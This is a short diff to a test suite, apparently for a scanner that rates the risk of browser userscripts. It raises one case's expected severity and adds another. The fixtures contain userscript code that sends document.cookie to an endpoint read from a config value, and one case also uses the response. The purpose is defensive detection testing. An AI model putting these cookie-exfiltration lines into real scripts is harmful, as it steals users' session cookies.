@@ -6,8 +6,16 @@ describe("capability-pair", () => {
 	test.each([
 		[
 			"cookies to an address nobody knows",
-			["medium 5"],
+			["high 5"],
 			userscript(["match https://shop.example/*"], `fetch(window.settings.endpoint+"?c="+document.cookie)`),
+		],
+		[
+			"cookies in a request whose answer is used",
+			["medium 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`fetch(window.settings.endpoint+"?c="+document.cookie).then((r)=>r.text()).then((t)=>{document.title=t})`,
+			),
 		],
 		[
 			"a key of the site, and requests elsewhere",
